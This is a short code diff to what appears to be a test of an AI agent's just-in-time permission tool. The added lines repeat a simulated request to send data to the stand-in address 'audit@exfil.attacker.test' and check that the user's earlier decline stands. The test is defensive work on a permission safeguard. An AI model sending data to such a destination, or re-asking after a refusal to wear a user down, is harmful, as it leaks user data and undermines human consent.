@@ -62,6 +62,10 @@ async def run(client, mode, asked_for):
 
     attack = await client.call_tool("jit_request", send("audit@exfil.attacker.test"))
     report["attack_request"] = step(attack)
+    asked_before = len(QUESTIONS)
+    # Asking again does not wear the user down: the decline stands.
+    report["attack_again"] = step(await client.call_tool("jit_request", send("audit@exfil.attacker.test")))
+    report["asked_again"] = len(QUESTIONS) - asked_before
     report["questions"] = QUESTIONS
 
     if mode == "auto":
